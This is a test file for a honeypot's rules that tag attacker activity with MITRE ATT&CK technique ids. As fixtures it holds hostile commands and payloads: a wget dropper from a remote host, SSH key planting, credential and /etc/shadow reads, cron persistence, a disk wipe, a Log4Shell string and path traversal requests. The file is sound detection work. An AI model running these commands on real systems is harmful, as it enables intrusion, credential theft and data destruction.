import { globSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { attackRules, tactics, techniques } from '../../src/analysis/attack/rules.ts'
import { attackTags, rulesOf } from '../../src/analysis/attack/tag.ts'
import { Tag } from '../../src/events/schema.ts'

const typed = (input: string) => ({ type: 'turn', data: { kind: 'shell', input, output: '' } })
const requested = (target: string) => ({ type: 'turn', data: { kind: 'web', input: '', output: '', detail: { method: 'GET', target } } })
const techniquesOf = (event: { type: string; data: Record<string, unknown> }): string[] =>
  attackTags(event).map((tag) => tag.slice('attack:'.length))

describe('the ATT&CK catalogue', () => {
  it('has the names and tactics of release 18.1', () => {
    const released = new Map(
      readFileSync(`${import.meta.dirname}/attack-18.1.tsv`, 'utf8')
        .split('\n')
        .map((line) => line.split('\t'))
        .map(([id = '', name = '', of = '']) => [id, { name, tactics: of.split(' ').sort() }]),
    )
    for (const { id, name, tactics: of } of techniques.values()) expect({ name, tactics: [...of].sort() }, id).toEqual(released.get(id))
  })

  it('names every technique that a lure, a trap or a host tags', () => {
    const files = globSync(['src/{emulators,host,http,sensor,ssh}/**/*.{ts,yaml,json}', 'traps/*.yaml'])
    const tagged = files.flatMap((file) =>
      Array.from(readFileSync(file, 'utf8').matchAll(/\bT[01]\d{3}(?:\.\d{3})?\b/g), ([id]) => ({ id, file })),
    )
    expect(new Set(tagged.map(({ id }) => id)).size).toBeGreaterThan(70)
    expect(tagged.filter(({ id }) => !techniques.has(id))).toEqual([])
  })
})

describe('ATT&CK rules', () => {
  it.each([
    ["EXEC xp_cmdshell 'whoami'", 'T1505.001'],
    ["BEGIN DBMS_SCHEDULER.CREATE_JOB('J', 'EXECUTABLE', '/bin/sh'); END;", 'T1053'],
    ['create user hacker identified by x', 'T1136'],
    ['select * from customers', 'T1213.006'],
    ["insert into readme values ('send 0.1 BTC to bc1q to recover your data')", 'T1657'],
    ['{ insert: "README", documents: [ { content: "All your data is backed up. Pay 0.01 BTC" } ] }', 'T1657'],
  ])('see in a statement to a database %s', (input, expected) => {
    expect(techniquesOf(typed(input))).toContain(expected)
  })

  it('see nothing in what a driver asks', () => {
    for (const input of ['select 1 from dual', 'select * from v$version', 'select @@version', '{ hello: 1 }'])
      expect(techniquesOf(typed(input))).toEqual([])
  })

  it('have ids of their own and name techniques and tactics of the catalogue', () => {
    expect(new Set(attackRules.map(({ id }) => id)).size).toBe(attackRules.length)
    expect(attackRules.length).toBeGreaterThanOrEqual(40)
    for (const { technique } of attackRules) expect(techniques.has(technique), technique).toBe(true)
    for (const technique of techniques.values()) for (const tactic of technique.tactics) expect(tactics).toHaveProperty(tactic)
    for (const { technique } of attackRules) expect(Tag.safeParse(`attack:${technique}`).success).toBe(true)
  })

  it.each([
    [
      'cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh',
      'T1105 T1222.002 T1059.004 T1070.004',
    ],
    ['uname -s -v -n -r -m', 'T1082'],
    ['cat /proc/cpuinfo | grep name | wc -l', 'T1082'],
    ['cd ~; chattr -ia .ssh; rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA" >> .ssh/authorized_keys', 'T1098.004 T1222.002'],
    ['echo "root:Xy7"|chpasswd|bash', 'T1098'],
    ['(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -', 'T1053.003 T1036.005'],
    ['history -c; unset HISTFILE', 'T1070.003'],
    ['echo aGVsbG8= | base64 -d | bash', 'T1140 T1059.004'],
    ['curl -s http://169.254.169.254/latest/meta-data/', 'T1552.005 T1105'],
    ['cat ~/.aws/credentials /etc/shadow', 'T1552.001 T1003.008'],
    ['systemd-detect-virt; cat /proc/1/cgroup', 'T1497.001'],
    ['pkill -9 xmrig', 'T1489 T1496.001'],
    ['iptables -F; setenforce 0', 'T1562.004 T1562.001'],
    ['dd if=/dev/zero of=/dev/sda', 'T1485'],
  ])('tag what bots type: %s', (input, expected) => {
    expect(techniquesOf(typed(input))).toEqual(expect.arrayContaining(expected.split(' ')))
  })

  it.each([
    ['/../../../../etc/passwd', 'T1190'],
    ['/cgi-bin/%2e%2e/%2e%2e/bin/sh', 'T1190'],
    ['/?x=${jndi:ldap://198.51.100.9/a}', 'T1190'],
    ['/.env', 'T1552.001'],
    ['/shell.php?cmd=id', 'T1505.003'],
  ])('tag what scanners request: %s', (target, expected) => {
    expect(techniquesOf(requested(target))).toContain(expected)
  })

  it('tag logins, files and forwarding', () => {
    expect(techniquesOf({ type: 'login', data: { method: 'password', accepted: false } })).toEqual(['T1110'])
    expect(techniquesOf({ type: 'login', data: { method: 'password', accepted: true } })).toEqual(['T1078', 'T1133'])
    expect(techniquesOf({ type: 'artifact', data: { magic: 'elf' } })).toEqual(['T1105'])
    expect(techniquesOf({ type: 'ssh.forward', data: {} })).toEqual(['T1090'])
  })

  it('leave alone what means nothing', () => {
    for (const input of ['', 'exit', 'echo hello', 'cd /root', 'true']) expect(techniquesOf(typed(input))).toEqual([])
    expect(techniquesOf(requested('/index.html'))).toEqual([])
  })

  it('say which of them a tag is from', () => {
    expect(rulesOf(typed('wget http://198.51.100.9/x')).map(({ id }) => id)).toEqual(['download'])
  })

  it('stay quick whatever an attacker types', () => {
    const hostile = ['wget ', 'rm -rf ', '((((', '\\x41', 'A', ' ', '../', '; ', 'chmod ', '|'].map((part) => part.repeat(4096))
    for (const input of hostile) {
      const start = performance.now()
      rulesOf(typed(input))
      rulesOf(requested(input))
      expect(performance.now() - start, input.slice(0, 12)).toBeLessThan(100)
    }
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (input) => rulesOf(typed(input)).length <= attackRules.length))
  })
})
